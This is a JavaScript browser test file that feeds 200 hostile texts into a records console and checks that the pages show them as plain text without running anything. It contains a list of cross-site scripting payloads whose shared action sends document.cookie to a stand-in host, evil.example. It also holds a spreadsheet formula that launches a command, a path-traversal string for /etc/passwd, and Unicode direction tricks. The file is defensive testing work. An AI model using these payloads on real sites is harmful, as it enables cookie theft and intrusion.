// The texts of records can be hostile. The console shows 200 hostile texts as plain text: no script
// runs, no request goes to another host, no dialog opens, and nothing violates the page's policy.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { launch, noBrowser, nothingHappened, Proxy, Server, settled, visit, watched } from "./support.mjs";

const act = "window.hacked=1;fetch('//evil.example/'+document.cookie);alert(1)";
const forms = [
  `<script>${act}</script>`, `</script><script>${act}</script>`, `<img src=x onerror="${act}">`, `<svg onload="${act}"></svg>`, `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`, `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`, `<iframe srcdoc="<script>parent.${act}</script>">`, `<iframe src="javascript:${act}">`,
  `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`, `<object data="javascript:${act}">`, `<embed src="data:text/html,<script>${act}</script>">`, `<form action="//evil.example"><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example/x.css";body{display:none}</style>`,
  `<input autofocus onfocus="${act}">`, `<details open ontoggle="${act}">`, `<video><source onerror="${act}"></video>`, `<body onload="${act}">`, `<template><script>${act}</script></template>`, `<x onclick="${act}" style="position:fixed;inset:0">`,
  `"><script>${act}</script>`, `'-${act}-'`, `\${${act}}`, `{{constructor.constructor('${act}')()}}`, `javascript:${act}`, `data:text/html,<script>${act}</script>`, `]]><script>${act}</script>`, `<!--><script>${act}</script>-->`, `<![CDATA[<script>${act}</script>]]>`,
  `&lt;script&gt;${act}&lt;/script&gt;`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `%3Cscript%3E${act}%3C/script%3E`, `+ADw-script+AD4-${act}`, `<scr\u0000ipt>${act}</scr\u0000ipt>`, `<scr\u200bipt>${act}</scr\u200bipt>`, `\u2028<script>${act}</script>\u2029`,
  "\u202e<gnp.ssalp=crs gmi\u202c and back", "\u2066\u2067\u2068 never closed", `\u202e${"RTL ".repeat(50)}`, "\u200f\u200e\u061c\ufeff\u00ad\u2060 invisible", "a\u0301".repeat(3000), "\u{e0041}\u{e0042} tags", "\u0000\u0001\u0008\u001b[31m\u007f\u0085 controls",
  "🏳️‍🌈👨‍👩‍👧‍👦".repeat(200), "ﷺ".repeat(2000), "\r\r\r\n\n\n".repeat(300), "\t".repeat(4000), "=cmd|' /C calc'!A0", "\ufff9anchor\ufffaruby\ufffb", "__proto__", "constructor", "[object Object]", "NaN", "../../../etc/passwd", "//evil.example/x", "https://evil.example/",
];
const million = 1 << 20;
const long = ["x".repeat(million), "<b>".repeat(million / 3), "\u202e".repeat(20_000) + "y", `${" ".repeat(million - 1)}z`, "\n".repeat(200_000), "字".repeat(350_000)];

/** 200 texts. Each begins with its number, by which the tests find it. */
const texts = [...long, ...Array.from({ length: 200 - long.length }, (_, i) => forms[i % forms.length])].map((text, i) => `№${i} ${text}`);

describe("hostile texts", { skip: noBrowser }, () => {
  let server, proxy, browser;
  const seqs = [], varied = [];
  const hostileModels = [`<img src=x onerror="${act}">`, "\u202e<gnp.ssalp=crs gmi\u202c and back"];

  /** Returns a short name made from text i, because the ledger refuses long names, and control characters in some names. */
  const name = (i, most = 120) => {
    let short = "";
    for (const c of texts[i].slice(0, most)) {
      const next = short + (/[\u0000-\u001f\u007f-\u009f]|\p{Surrogate}/u.test(c) ? "?" : c);
      if (Buffer.byteLength(next) > most) break;
      short = next;
    }
    return short;
  };

  before(async () => {
    server = await new Server().start();
    // Every member that accepts a text contains a hostile one.
    const lines = texts.flatMap((text, i) => {
      const kinds = [
        { kind: "ipc_record", record: { run_id: name(i), payload: { instruction: text, topic: text.slice(0, 500) }, system_prompt: text, output: text, model: name(i), temperature: 0.5, labels: { config: name(i) } } },
        { kind: "citation_set", record: { run_id: name(i), subject: name(i), citations: [{ source_id: name(i), section: name(i), text, weight: 0.5 }, { source_id: "other", section: null, text: `${text}!`, weight: 0.4 }] } },
        { kind: "path_fingerprint", record: { project: name(i), build: name(i), route: [name(i), "end"], content: text } },
        { kind: "run_dag", record: { run_id: name(i), question: text, inputs: {
          context_root: "d".repeat(64), conversation_hash: "4".repeat(64), sources: [{ document_root: "c".repeat(64), source_role: "primary_answer_source", score: 0.8, chunk_idx: 1 }],
          answer_text: `${text}\ud800`, audit_mode: "STRICT", verifier_method: "quote", n_quotes: 1, n_verified: 1, lookup_path: "miss",
        } } },
      ];
      return [kinds[i % kinds.length]];
    });
    const answers = [];
    for (let i = 0; i < lines.length; i += 20) answers.push(...(await server.post(lines.slice(i, i + 20))));
    answers.forEach((answer, i) => {
      assert.notEqual(answer.seq, undefined, `text ${i} was refused: ${JSON.stringify(answer)} ${JSON.stringify(lines[i]).slice(0, 300)}`);
      seqs.push(answer.seq);
    });
    await server.post(seqs.slice(0, 60).map((seq, i) => ({ kind: "note", record: { record_seq: seq, topic: name(i + 20, 60), text: texts[i + 20].slice(0, 2000) } })));
    // Two runs that differ only in the model and the output, so they can be compared.
    const runs = await server.post(hostileModels.map((model, i) => ({ kind: "ipc_record", record: {
      run_id: `${forms[0]} ${i}`, payload: { instruction: `${forms[2]} \u202e` }, system_prompt: forms[3], output: forms[i + 4], model, temperature: 0.5, max_tokens: 100, seed: 1, labels: { config: forms[8], [forms[9].slice(0, 30)]: forms[7] },
    } })));
    runs.forEach((answer) => assert.notEqual(answer.seq, undefined, `a run was refused: ${JSON.stringify(answer)}`));
    varied.push(...runs.map((answer) => answer.seq));
    await server.get(`/records?limit=1&after=${varied.at(-1)}`);
    proxy = await new Proxy().start(server.url);
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await proxy?.remove();
    await server?.remove();
  });

  /** Fails if a text has become markup or has had an effect. */
  async function inert(page, where) {
    const found = await page.evaluate(() => ({
      hacked: "hacked" in window, scripts: document.scripts.length, styles: document.querySelectorAll("style, link[rel=stylesheet]").length,
      strange: [...document.querySelectorAll("iframe, object, embed, form[action], base, math, template, video, audio, img, animate, meta[http-equiv]")].map((e) => e.outerHTML.slice(0, 100)),
      handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || /^\s*(javascript|data|vbscript):/i.test(a.value) && ["href", "src", "action"].includes(a.name))).map((e) => e.outerHTML.slice(0, 100)),
      away: [...document.querySelectorAll("a[href]")].filter((a) => a.origin !== location.origin).map((a) => a.href), base: document.baseURI.split("#")[0],
      turned: [...document.querySelectorAll("main *")].some((e) => [...e.childNodes].some((n) => n.nodeType === 3 && /[\u202a-\u202e\u2066-\u2069]/.test(n.data))),
    }));
    assert.deepEqual(found, { hacked: false, scripts: 1, styles: 1, strange: [], handlers: [], away: [], base: `${proxy.url}/`, turned: false }, where);
    nothingHappened(page);
  }

  it("shows each of 200 texts as text on the page of its record", async () => {
    assert.equal(seqs.length, 200);
    const context = await browser.newContext({ reducedMotion: "reduce" });
    const page = await watched(context, proxy.url);
    await page.goto(`${proxy.url}/#/default/record/${seqs[0]}`);
    for (const [i, seq] of seqs.entries()) {
      await visit(page, `/default/record/${seq}`);
      const shown = await page.locator("main").innerText();
      assert.ok(shown.includes(`№${i} `), `text ${i} is not shown: ${shown.slice(0, 200)}`);
      if (i % 10 === 0 || i < 10) await inert(page, `the record of text ${i}`);
      else nothingHappened(page);
    }
    // A text of a megabyte can be unfolded.
    await visit(page, `/default/record/${seqs[0]}`);
    await page.getByRole("button", { name: /^Show .* of 1,048,/ }).first().click();
    await inert(page, "an unfolded text");
    await context.close();
  });

  it("shows the texts as text in lists too", async () => {
    const context = await browser.newContext({ reducedMotion: "reduce" });
    const page = await watched(context, proxy.url);
    // Every fourth record has the same kind. Records of short texts have passages, sources, subjects, and
    // stories of their own.
    const i = 8, record = (kind) => seqs[i + kind], named = (kind) => encodeURIComponent(name(i + kind));
    const { event } = await server.get(`/records/${record(1)}`);
    const { hashes } = await server.get(`/records/${record(0)}`);
    const inputs = (await server.get("/drift/groups?by=input&min_outputs=2&limit=1")).rows;
    const [question] = (await server.get("/run-dags/groups?by=question_hash&limit=1")).rows;
    assert.equal(inputs.length, 1, "no input has two outputs");
    const views = [
      `changed?${new URLSearchParams({ variable: "model", a: hostileModels[0], b: hostileModels[1] })}`, "changed?variable=label%3Aconfig", "changed?variable=system_prompt_hash", "unstable",
      `timeline?input=${inputs[0].value}`, `timeline?input_hash=${hashes.input_hash}`, `compare?a=${varied[0]}&b=${varied[1]}`, `compare?a=${record(0)}&b=${record(4)}`, `record/${varied[1]}`,
      "records", "records?kind=note", `records?flag=${encodeURIComponent(forms[0])}`, "runs?every=true", `runs/${question.value}`, `run-dag/${record(3)}`, `run-dag/${record(3)}?beside=${record(7)}`,
      "citations?view=answers", "citations?view=conflicts", "citations?view=sources", `citations/${record(1)}`, `source/${named(1)}`, `subject/${named(1)}`, `passage/${event.record.citations[0].chunk_hash}`, `stories/${named(2)}`,
    ];
    await page.goto(`${proxy.url}/#/default`);
    for (const at of [...views.map((view) => `/default/${view}`), "/default", "/default/changed", "/default/runs", "/default/citations", "/default/stories", "/default/search?q=%E2%84%968", `/default/run/${encodeURIComponent(`№8 ${forms[2]}`.slice(0, 120))}`]) {
      await visit(page, at);
      await inert(page, at);
    }
    // A link can have a hostile address, so the page is loaded from each of these.
    for (const at of [`/default/search?q=${encodeURIComponent(forms[0])}`, `/${encodeURIComponent(forms[0])}/record/1`, `/default/${encodeURIComponent(forms[2])}`, `/default/record/${encodeURIComponent(forms[3])}`, `/-/sign-in?back=javascript:${encodeURIComponent(act)}`]) {
      await page.goto("about:blank");
      await page.goto(`${proxy.url}/#${at}`);
      await settled(page);
      await inert(page, at);
    }
    await context.close();
  });

  it("refuses bytes that are not UTF-8 with a message that says so", async () => {
    const body = Buffer.concat([Buffer.from('{"kind":"ipc_record","record":{"run_id":"x","payload":{"a":1},"output":"'), Buffer.from([0xff, 0xfe, 0xc0]), Buffer.from('","model":"m"}}\n')]);
    const answer = await (await fetch(`${server.ledger}/batch`, { method: "POST", body, headers: { "Content-Type": "application/x-ndjson" } })).json();
    assert.equal(answer.status, 400);
    assert.match(answer.detail, /UTF-8/);
  });
});
